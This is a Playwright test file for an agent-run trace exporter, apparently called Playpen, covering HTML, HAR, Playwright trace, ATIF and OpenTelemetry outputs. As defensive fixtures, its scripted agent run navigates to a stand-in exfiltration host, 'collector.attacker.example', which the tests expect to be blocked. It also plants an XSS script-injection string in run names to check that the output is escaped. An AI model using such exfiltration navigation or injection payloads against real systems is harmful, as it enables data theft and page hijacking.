import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { type Browser, chromium, expect, test } from '@playwright/test';
import { z } from 'zod';
import { scripted } from '../broker/approvers.ts';
import {
  goTo,
  openTestBench,
  press,
  type TestBench,
} from '../environments/mock-saas/testing/open-test-run.ts';
import { sampleEnd, sampleRun } from '../trace/testing/sample-run.ts';
import { exportAs, type Format } from './export-as.ts';
import { exportSuite } from './export-suite.tsx';
import { serveTraceViewer } from './testing/serve-trace-viewer.ts';
import { unzip } from './testing/unzip.ts';

const SYSTEM_SHELL = '/usr/bin/chromium-headless-shell';
const executablePath = process.env.PLAYPEN_CHROMIUM ?? (existsSync(SYSTEM_SHELL) ? SYSTEM_SHELL : undefined);
const AXE = createRequire(import.meta.url).resolve('axe-core/axe.min.js');
const REFUND = { invoice: 'INV-1042', payment: 'pay_000002', amountMinor: 500, reason: 'Goodwill' };
const STEPS = [
  goTo('/tickets/T-1007'),
  { type: 'type', target: { label: 'Reply draft' }, text: 'We are looking into it.', reason: 'to say so' },
  press('Save reply draft'),
  { type: 'tool', tool: 'billing.refund', input: REFUND },
  { type: 'navigate', url: 'http://collector.attacker.example/?list=1' },
  { type: 'finish', result: 'done', message: 'Done.' },
] as const;

let bench: TestBench;
let browser: Browser;
let runId: string;
test.beforeAll(async () => {
  test.slow();
  bench = await openTestBench(test.info().outputPath('trace'));
  const run = await bench.open({ approver: scripted('lead', () => ({ approve: false, reason: 'not now' })) });
  for (const action of STEPS) await run.act(action);
  await run.close();
  runId = run.id;
  browser = await chromium.launch({
    ...(executablePath && { executablePath }),
    chromiumSandbox: process.getuid?.() !== 0,
  });
});
test.afterAll(async () => {
  await browser.close();
  await bench.close();
});

async function exported(format: Format): Promise<Buffer> {
  await bench.runtime.store.flush();
  const { bytes, problems } = await exportAs(bench.runtime.store, bench.runtime.store.readRun(runId), format);
  expect(problems).toEqual([]);
  return bytes;
}

test('one HTML file shows the whole run from file://, with no script, and asks for nothing', async () => {
  const path = test.info().outputPath('run.html');
  writeFileSync(path, await exported('html'));
  const page = await browser.newPage();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('console', (message) => asked.push(message.text()));
  await page.goto(pathToFileURL(path).href);
  expect(await page.locator('script').count()).toBe(0);
  await expect(page.locator('.timeline > li')).toHaveCount(STEPS.length);

  const pictures = page.locator('svg.picture use');
  expect(await pictures.count()).toBeGreaterThan(STEPS.length);
  const drawn = await pictures.evaluateAll((uses) =>
    uses.map((use) => document.querySelector(use.getAttribute('href') ?? '')?.tagName),
  );
  expect(new Set(drawn)).toEqual(new Set(['image']));

  const saved = page.locator('#step-3');
  await expect(saved).toContainText('What it changed');
  await expect(saved.locator('.rowdiff').first()).toContainText('mails');
  await expect(saved.locator('.requests')).toContainText('POST http://acme.saas.localhost/');
  const held = page.locator('#step-4');
  await expect(held).toContainText('rejected by lead: not now');
  await held.getByText('What it would have changed').click();
  await expect(held.locator('.rowdiff').first()).toBeVisible();

  await saved.getByRole('link', { name: 'Document and accessibility tree' }).last().click();
  const frame = page.locator(':target iframe').contentFrame();
  await expect(frame.getByRole('heading', { level: 1 })).toBeVisible();
  expect(asked).toEqual([pathToFileURL(path).href]);

  await page.evaluate(readFileSync(AXE, 'utf8'));
  const serious = await page.evaluate<string[]>(
    `axe.run({ iframes: false }).then(({ violations }) =>
      violations.filter(({ impact }) => /serious|critical/.test(impact)).map(({ id }) => id))`,
  );
  expect(serious).toEqual([]);
  await page.close();
});

test('a suite of runs is opened from file://: its page leads to each run and back, and asks for nothing else', async () => {
  const { store } = bench.runtime;
  await store.flush();
  const folder = test.info().outputPath('report');
  mkdirSync(join(folder, 'runs'), { recursive: true });
  const hostile = `"><script>document.title='owned'</script>`;
  store.startRun(sampleRun('run_hostile', { scenario: hostile, agent: hostile }));
  store.endRun('run_hostile', sampleEnd());
  store.recordVerdict('run_hostile', 'fail', []);
  for await (const { path, html, problems } of exportSuite(store, 'Runs', store.listRuns({ limit: 9 }))) {
    expect(problems).toEqual([]);
    writeFileSync(join(folder, path), html);
  }
  const page = await browser.newPage();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  page.on('console', (message) => asked.push(message.text()));
  await page.goto(pathToFileURL(join(folder, 'index.html')).href);
  expect(await page.locator('script').count()).toBe(0);
  await expect(page.locator('.counts')).toContainText('2 runs');
  await expect(page.locator('section').filter({ hasText: 'Not passed' })).toContainText(hostile);
  await page.locator(`#${runId} a`).first().click();
  await expect(page.locator('.timeline > li')).toHaveCount(STEPS.length);
  await page.getByRole('link', { name: 'All runs' }).click();
  await expect(page).toHaveTitle('Runs · Playpen');
  const root = pathToFileURL(folder).href;
  expect(asked.filter((url) => !url.startsWith(`${root}/`))).toEqual([]);
  await page.evaluate(readFileSync(AXE, 'utf8'));
  const violations = await page.evaluate(`axe.run().then((found) => found.violations.map(({ id }) => id))`);
  expect(violations).toEqual([]);
  await page.close();
});

test('Playwright’s own trace viewer opens the trace.zip, with every action, picture, document and request', async () => {
  const trace = await exported('playwright');
  const viewer = await serveTraceViewer(trace);
  const page = await browser.newPage();
  await page.goto(viewer.url);
  const actions = page.locator('.action-title');
  await expect(actions).toHaveCount(STEPS.length);
  await expect(actions.nth(4)).toContainText('collector.attacker.example');
  await actions.nth(2).click();
  await page.getByRole('tab', { name: 'Before', exact: true }).click();
  const snapshot = page.locator('iframe.snapshot-visible').contentFrame();
  await expect(snapshot.getByRole('button', { name: 'Save reply draft' })).toBeVisible();
  await page.getByRole('tab', { name: /^Errors/ }).click();
  await expect(page.locator('body')).toContainText('not now');
  await page.close();
  viewer.close();

  const files = unzip(trace);
  const events = (files.get('trace.trace')?.toString().trim().split('\n') ?? []).map((line) =>
    JSON.parse(line),
  );
  for (const { file } of events.filter(({ type }) => type === 'screenshot'))
    expect(files.has(file)).toBe(true);
  expect(events.filter(({ type }) => type === 'screenshot').length).toBeGreaterThan(STEPS.length);
});

const header = z.array(z.object({ name: z.string(), value: z.string() }));
const har = z.strictObject({
  log: z.strictObject({
    version: z.literal('1.2'),
    creator: z.strictObject({ name: z.string(), version: z.string() }),
    pages: z.array(
      z.strictObject({
        startedDateTime: z.iso.datetime(),
        id: z.string(),
        title: z.string(),
        pageTimings: z.strictObject({}),
      }),
    ),
    entries: z.array(
      z
        .strictObject({
          pageref: z.string().optional(),
          startedDateTime: z.iso.datetime(),
          time: z.number(),
          request: z.strictObject({
            method: z.string(),
            url: z.string(),
            httpVersion: z.string(),
            cookies: z.array(z.unknown()),
            headers: header,
            queryString: header,
            headersSize: z.number(),
            bodySize: z.number(),
          }),
          response: z.strictObject({
            status: z.number(),
            statusText: z.string(),
            httpVersion: z.string(),
            cookies: z.array(z.unknown()),
            headers: header,
            content: z.strictObject({ size: z.number(), mimeType: z.string() }),
            redirectURL: z.string(),
            headersSize: z.number(),
            bodySize: z.number(),
          }),
          cache: z.strictObject({}),
          timings: z.strictObject({ send: z.number(), wait: z.number(), receive: z.number() }),
          _playpen: z.object({ outcome: z.string(), layer: z.string() }),
        })
        .refine(({ response, _playpen }) => response.status > 0 || _playpen.outcome !== 'allowed'),
    ),
    comment: z.string(),
  }),
});

test('the HAR is of version 1.2, and its entries are of pages that it has', async () => {
  const { log } = har.parse(JSON.parse((await exported('har')).toString()));
  const pages = new Set(log.pages.map(({ id }) => id));
  expect(log.entries.length).toBeGreaterThan(5);
  for (const { pageref } of log.entries) expect(pageref === undefined || pages.has(pageref)).toBe(true);
  const blocked = log.entries.filter(({ request }) => request.url.includes('collector.attacker.example'));
  expect(blocked.every(({ _playpen }) => _playpen.outcome === 'blocked')).toBe(true);
});

test('the ATIF trajectory has numbered steps whose observations belong to their tool calls', async () => {
  const trajectory = JSON.parse((await exported('atif')).toString());
  expect(trajectory).toMatchObject({ schema_version: 'ATIF-v1.7', session_id: runId });
  expect(trajectory.steps.map(({ step_id }: { step_id: number }) => step_id)).toEqual(
    trajectory.steps.map((_: unknown, place: number) => place + 1),
  );
  const [goal, ...acts] = trajectory.steps;
  expect(goal).toMatchObject({ source: 'user', message: 'a test' });
  expect(
    acts.map((act: { tool_calls: { function_name: string }[] }) => act.tool_calls[0]?.function_name),
  ).toEqual([
    'browser_navigate',
    'browser_type',
    'browser_click',
    'billing.refund',
    'browser_navigate',
    'browser_finish',
  ]);
  const files = unzip(await exported('zip'));
  for (const { tool_calls, observation } of acts) {
    const [result] = observation.results;
    expect(result.source_call_id).toBe(tool_calls[0].tool_call_id);
    const picture = result.content.find(({ type }: { type: string }) => type === 'image');
    expect(files.has(picture.source.path)).toBe(true);
  }
  expect([...files.keys()]).toEqual(expect.arrayContaining(['run.html', 'run.json', 'run.har', 'otlp.json']));
});

const otlpValue: z.ZodType = z.union([
  z.strictObject({ stringValue: z.string() }),
  z.strictObject({ intValue: z.string() }),
  z.strictObject({ doubleValue: z.number() }),
  z.strictObject({
    arrayValue: z.strictObject({ values: z.array(z.strictObject({ stringValue: z.string() })) }),
  }),
]);
const attributes = z.array(z.strictObject({ key: z.string(), value: otlpValue }));
const otlp = z.object({
  resourceSpans: z.tuple([
    z.object({
      resource: z.object({ attributes }),
      scopeSpans: z.tuple([
        z.object({
          spans: z.array(
            z.object({
              traceId: z.string().regex(/^[0-9a-f]{32}$/),
              spanId: z.string().regex(/^[0-9a-f]{16}$/),
              parentSpanId: z.string().optional(),
              name: z.string(),
              kind: z.number(),
              startTimeUnixNano: z.string().regex(/^\d{19}$/),
              endTimeUnixNano: z.string().regex(/^\d{19}$/),
              attributes,
              events: z
                .array(z.object({ timeUnixNano: z.string(), name: z.string(), attributes }))
                .optional(),
            }),
          ),
        }),
      ]),
    }),
  ]),
});

test('the OpenTelemetry spans are one trace: an agent that is invoked, and the tools that it executes', async () => {
  const { resourceSpans } = otlp.parse(JSON.parse((await exported('otel')).toString()));
  const { spans } = resourceSpans[0].scopeSpans[0];
  const [root, ...steps] = spans;
  expect(root?.name).toBe('invoke_agent external');
  expect(steps.map(({ name }) => name)).toEqual([
    'execute_tool browser_navigate',
    'execute_tool browser_type',
    'execute_tool browser_click',
    'execute_tool billing.refund',
    'execute_tool browser_navigate',
    'execute_tool browser_finish',
  ]);
  for (const span of steps) {
    expect(span).toMatchObject({ traceId: root?.traceId, parentSpanId: root?.spanId });
    expect(BigInt(span.endTimeUnixNano)).toBeGreaterThanOrEqual(BigInt(span.startTimeUnixNano));
    expect(span.attributes.map(({ key }) => key)).toEqual(
      expect.arrayContaining(['gen_ai.operation.name', 'gen_ai.tool.name', 'gen_ai.tool.call.id']),
    );
  }
  expect(new Set(spans.map(({ spanId }) => spanId)).size).toBe(spans.length);
});
